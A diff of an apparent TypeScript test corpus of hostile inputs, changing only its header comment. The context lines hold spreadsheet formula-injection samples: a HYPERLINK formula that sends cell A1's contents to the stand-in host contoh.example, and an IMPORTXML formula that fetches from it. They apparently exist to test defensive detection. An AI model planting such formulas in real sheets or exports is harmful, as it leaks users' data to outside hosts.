@@ -1,4 +1,4 @@
-/** What people paste, scanners name and the ill-willed try, each with a call of `alarm()` where something could run it. */
+/** What people paste, scanners name and attackers try, each with a call of `alarm()` where something could run it. */
 export const corpus: readonly { readonly name: string; readonly text: string }[] = [
   { name: 'a formula', text: '=HYPERLINK("http://contoh.example/?"&A1,"klik")' },
   { name: 'a formula that fetches', text: '=IMPORTXML("http://contoh.example","//a")' },
